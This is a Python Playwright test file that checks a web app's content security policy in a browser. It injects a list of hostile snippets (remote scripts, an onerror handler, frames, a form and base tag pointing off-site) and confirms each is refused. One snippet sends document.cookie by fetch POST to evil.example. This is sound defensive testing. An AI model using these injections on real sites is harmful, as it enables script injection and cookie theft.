"""The application under its own content security policy, in a real browser."""

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Join
from tests.browser.person import Faults, Person

INJECTED = {
    "a script": """
        const script = document.createElement("script");
        script.textContent = "window.injected = true";
        document.head.append(script);
    """,
    "a script of another site": """
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.head.append(script);
    """,
    "a script in an attribute": """
        document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.injected = true'>");
    """,
    "text run as a program": """
        setTimeout("window.injected = true", 0);
    """,
    "a style": """
        document.head.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>");
    """,
    "a picture of another site": """
        document.body.insertAdjacentHTML("beforeend", "<img src='https://evil.example/x.png'>");
    """,
    "a frame": """
        document.body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example/'></iframe>");
    """,
    "a call of another site": """
        fetch("https://evil.example/", {method: "POST", body: document.cookie}).catch(() => 0);
    """,
    "a live connection to another site": """
        try { new WebSocket("wss://evil.example/"); } catch {}
    """,
    "a form to another site": """
        document.body.insertAdjacentHTML("beforeend", "<form method=post action='https://evil.example/'>");
        document.body.lastChild.submit();
    """,
    "another base for addresses": """
        document.head.insertAdjacentHTML("beforeend", "<base href='https://evil.example/'>");
    """,
}
Visit = Callable[..., Person]
POLICY = "Content Security Policy"


def test_people_talk_and_nothing_is_refused(join: Join, visit: Visit, faults: Faults):
    ada, (grace,) = visit("Ada").signs_up(), join("Grace")
    ada.starts("Lunch", grace)
    ada.writes("Noon?")
    ada.sees("Noon?")
    ada.clicks("Details")
    ada.clicks("Use dark colours")
    expect(ada.page.locator("html.dark")).to_be_visible()
    ada.page.get_by_role("link", name="Profile").click()
    expect(ada.page.get_by_role("heading", name="Profile")).to_be_visible()
    # Asked for again, a page is the one that the browser holds.
    for _ in range(2):
        ada.goes_to("/")
        expect(ada.row("Lunch")).to_be_visible()
    ada.clicks("Sign out")
    ada.page.get_by_role("link", name="Sign up").click()
    ada.page.get_by_role("link", name="Sign in").click()
    ada.signs_in().is_at("/")
    grace.goes_to("/").opens("Lunch").sees("Noon?")
    assert not faults.found


@pytest.mark.parametrize("program", INJECTED.values(), ids=INJECTED)
def test_what_is_injected_is_refused(program: str, visit: Visit, faults: Faults):
    ada: Person = visit("Ada").goes_to("/sign-in")
    expect(ada.field("Email")).to_be_visible()
    faults.expected.append(POLICY)
    with ada.page.expect_event("console", lambda said: POLICY in said.text):
        ada.page.evaluate(f"() => {{ {program} }}")
    assert ada.page.evaluate("() => window.injected === undefined && document.baseURI === location.href")
    expect(ada.field("Email")).to_be_visible()


def test_no_other_site_may_frame_the_application(visit: Visit, faults: Faults):
    ada: Person = visit("Ada").goes_to("/")
    faults.expected += [POLICY, "Refused to display"]
    with ada.page.expect_event("console", lambda said: "frame" in said.text.lower()):
        ada.page.goto(f"data:text/html,<iframe src='{ada.url}/sign-in/'></iframe>")
    assert all("Sign in" not in frame.content() for frame in ada.page.frames)
